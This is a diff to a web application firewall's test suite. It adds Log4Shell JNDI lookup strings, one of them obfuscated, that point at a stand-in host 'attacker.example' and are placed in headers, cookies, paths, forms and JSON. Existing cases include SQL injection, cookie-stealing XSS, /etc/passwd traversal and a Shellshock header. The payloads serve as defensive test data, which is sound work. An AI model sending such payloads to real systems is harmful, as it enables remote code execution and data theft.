@@ -64,6 +64,7 @@ describe.each([1, 2])('the firewall at paranoia level %i', (level) => {
     'time 10:30; kill time; sleep 5 hours',
     'on insulin; eval(uate) feet',
     "1/52 hx of D&V, o/e NAD; can't fast <24h",
+    'paid £5 ${see note} {jndi}',
   ])('forwards a form with the text %s', async (text) => {
     const body = new URLSearchParams({ notes: text });
     const { status } = await fetch(`${waf.url}/oltr/${randomUUID()}/`, { method: 'POST', body });
@@ -87,6 +88,7 @@ describe.each([1, 2])('the firewall at paranoia level %i', (level) => {
   const form = (value: string) => ({ method: 'POST', body: new URLSearchParams({ q: value }) });
   const union = "' UNION SELECT password FROM users--";
   const script = '<script>alert(document.cookie)</script>';
+  const lookup = '${jndi:ldap://attacker.example/a}';
   it.each<[string, string, RequestInit]>([
     ['SQL in a query', query(union), {}],
     ['SQL in a form', `/oltr/${randomUUID()}/`, form("1' OR '1'='1")],
@@ -110,6 +112,21 @@ describe.each([1, 2])('the firewall at paranoia level %i', (level) => {
     ],
     ['a path to a file of the system', query('../../../../etc/passwd'), {}],
     ['a command of a shell', query(';cat /etc/passwd'), {}],
+    ['a Log4Shell lookup in a header', '/', { headers: { 'X-Probe': lookup } }],
+    [
+      'a hidden Log4Shell lookup in a header',
+      '/',
+      { headers: { 'User-Agent': '${${lower:J}ndi:ldap://a/b}' } },
+    ],
+    ['a Log4Shell lookup in a cookie', '/', { headers: { Cookie: `a=${lookup}` } }],
+    ['a Log4Shell lookup in a query', query(lookup), {}],
+    ['a Log4Shell lookup in a path', `/oltr/${encodeURIComponent(lookup)}`, {}],
+    ['a Log4Shell lookup in a form', `/oltr/${randomUUID()}/`, form(lookup)],
+    [
+      'a Log4Shell lookup in JSON',
+      '/AccessApi/Validate',
+      { method: 'POST', headers: json, body: JSON.stringify({ a: lookup }) },
+    ],
     ['a header with a command', '/', { headers: { 'X-Probe': '() { :; }; /bin/cat /etc/passwd' } }],
     ['a header of an attack tool', '/', { headers: { 'User-Agent': 'sqlmap/1.5' } }],
     ['a header that is split', '/?x=%0d%0aSet-Cookie:%20a=b', {}],
@@ -125,7 +142,7 @@ describe.each([1, 2])('the firewall at paranoia level %i', (level) => {
     const line = new RegExp(`"requestId":"${reference}","rule":\\d{5,6}`);
     // Another process writes the lines of the rules.
     await until(() => line.test(waf.log()));
-    for (const part of ['password', 'alert(', 'passwd', 'sqlmap', 'Set-Cookie', 'UNION'])
+    for (const part of ['password', 'alert(', 'passwd', 'sqlmap', 'Set-Cookie', 'UNION', 'ndi:'])
       expect(waf.log()).not.toContain(part);
   });
 });
